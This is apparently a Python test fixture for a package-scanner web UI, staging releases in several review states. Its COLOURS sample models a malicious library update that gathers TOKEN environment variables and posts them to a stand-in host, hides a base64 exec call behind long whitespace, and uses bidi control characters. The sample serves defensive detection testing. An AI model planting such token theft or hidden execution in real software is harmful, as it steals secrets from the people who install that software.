"""The releases that the pages are tested and pictured with."""

from __future__ import annotations

from dataclasses import dataclass
from typing import TYPE_CHECKING, Final

from scanner.model import Confidence, Kind, Role, Severity, Step
from tests.fixtures.artifacts import benign_release, build_sdist, build_wheel
from tests.webui.desk import Says, finding

if TYPE_CHECKING:
    from scanner.model import Finding
    from tests.fixtures.artifacts import Artifact
    from tests.webui.desk import Desk

__all__ = ["COLOURS", "Scene", "full_desk"]

_BLOB: Final = "aW5lcnQgZXhhbXBsZSB0ZXh0LCBub3QgY29kZSBhdCBhbGw" * 20

#: What the update of `small-colours` brings: line numbers below point into it.
COLOURS: Final = f'''"""Colours for terminals."""

import base64
import os
import urllib.request

from small_colours.names import NAMES

RESET = "\\x1b[0m"


def paint(text, name):
    """The text in the colour of that name."""
    return f"{{NAMES[name]}}{{text}}{{RESET}}"


def _settings():
    wanted = {{key: os.environ[key] for key in os.environ if "TOKEN" in key}}
    request = urllib.request.Request("https://metrics.example.invalid/v1", data=str(wanted).encode())
    return urllib.request.urlopen(request, timeout=3)


_TABLE = "{_BLOB}"
allowed = "user"  # \u202e\u2066 resu llA
x = 1{" " * 240}; exec(base64.b64decode(_TABLE))
_settings()
'''

_MEMBER: Final = "small_colours/__init__.py"


@dataclass(frozen=True, slots=True)
class Scene:
    """The ids of the releases on the desk."""

    update: str
    """Flagged: an update by a new publisher, with findings of every kind."""
    first: str
    """Flagged: a first release."""
    failed: str
    """The inspection failed."""
    published: str
    rejected: str
    scanning: str


def full_desk(desk: Desk) -> Scene:
    """A desk with something in every state."""
    published = desk.release(_colours("1.4.1", COLOURS.partition("\n\ndef _settings")[0]), "small-colours", "1.4.1")
    desk.later(hours=40)
    desk.join("noor", "small-colours")
    update = _update(desk)
    desk.later(hours=5)
    first = desk.release(
        [build_wheel("quick-loader", "0.1", {"quick_loader.py": "import subprocess\n"})],
        "quick-loader",
        "0.1",
        Says(
            (
                finding("download-exec", Severity.CRITICAL, "quick_loader.py", 1, title="Runs what it downloads"),
                finding("process-start", Severity.MEDIUM, "quick_loader.py", 1, title="Starts a program"),
            )
        ),
        by="lea",
    )
    desk.later(hours=3)
    failed = _failed(desk)
    rejected = _rejected(desk)
    desk.later(minutes=50)
    scanning = desk.receive(benign_release("slow-example", "3.0")[0], "slow-example", "3.0", by="lea")
    return Scene(update, first, failed, published, rejected, scanning)


def _colours(version: str, source: str) -> list[Artifact]:
    files = {
        _MEMBER: source,
        "small_colours/names.py": "NAMES = {'red': '\\x1b[31m', 'blue': '\\x1b[34m'}\n",
        "small_colours/py.typed": "",
    }
    wheel = build_wheel("small-colours", version, files)
    sdist = build_sdist("small-colours", version, {**files, "tests/test_paint.py": "def test_paint(): pass\n"})
    return [wheel, sdist]


def _line(needle: str) -> int:
    return COLOURS[: COLOURS.index(needle)].count("\n") + 1


def _evidence() -> tuple[Finding, ...]:
    decode, blob, theft, send = _line("x = 1"), _line("_TABLE ="), _line("wanted ="), _line("return urllib")
    return (
        finding(
            "decode-exec",
            Severity.CRITICAL,
            _MEMBER,
            decode,
            title="Executes text that it decodes",
            snippet=COLOURS.splitlines()[decode - 1].replace(" " * 240, " " * 120),
            technique="T1027",
            layers=("base64",),
            chain=(
                Step("a literal of 960 characters", _MEMBER, blob, '_TABLE = "aW5lcnQgZXhhbXBsZSB0…"'),
                Step("is decoded by base64.b64decode", _MEMBER, decode),
                Step("and executed by exec", _MEMBER, decode),
            ),
        ),
        finding(
            "environment-exfiltration",
            Severity.HIGH,
            _MEMBER,
            send,
            title="Sends environment variables to a host",
            snippet=COLOURS.splitlines()[send - 1].strip(),
            technique="T1041",
            chain=(
                Step("reads environment variables named like TOKEN", _MEMBER, theft),
                Step("and posts them to metrics.example.invalid", _MEMBER, send),
            ),
        ),
        finding(
            "hidden-code",
            Severity.HIGH,
            _MEMBER,
            decode,
            title="Code stands behind a long run of spaces",
            kind=Kind.TEXT,
            snippet="x = 1" + " " * 120 + "; exec(…)",
        ),
        finding(
            "bidi-control",
            Severity.MEDIUM,
            _MEMBER,
            _line("allowed ="),
            title="Text is shown in another order than it is stored",
            kind=Kind.TEXT,
            snippet=COLOURS.splitlines()[_line("allowed =") - 1],
        ),
    )


def _quality() -> tuple[Finding, ...]:
    return tuple(
        finding(
            "assert-used",
            Severity.LOW,
            "small_colours/names.py",
            1,
            title="An assertion vanishes under python -O",
            kind=Kind.QUALITY,
            confidence=Confidence.LOW,
            role=Role.TEST,
            column=column,
        )
        for column in range(1, 8)
    )


def _update(desk: Desk) -> str:
    says = Says(
        (*_evidence(), *_quality()),
        ("dynamic-code", "environment", "network"),
        ("requests>=2", "colour-tables ; python_version<'3.12'"),
    )
    wheel, sdist = _colours("1.4.2", COLOURS)
    submission = desk.receive(wheel, "small-colours", "1.4.2", says, by="noor")
    desk.receive(sdist, "small-colours", "1.4.2", by="noor", attested_by="example/small-colours, release.yml")
    desk.settle()
    return submission


def _failed(desk: Desk) -> str:
    wheel, _ = benign_release("heavy-example", "2.0")
    submission = desk.receive(wheel, "heavy-example", "2.0", Says(failed=True), by="lea")
    desk.settle()
    return submission


def _rejected(desk: Desk) -> str:
    says = Says((finding("reverse-shell", Severity.CRITICAL, "bad_example/__init__.py", 1, title="Opens a shell"),))
    wheel = build_wheel("bad-example", "6.6", {"bad_example/__init__.py": "import socket\n"})
    submission = desk.release([wheel], "bad-example", "6.6", says, by="lea")
    desk.decide(submission, "reject", "It opens a shell to a strange host.")
    return submission
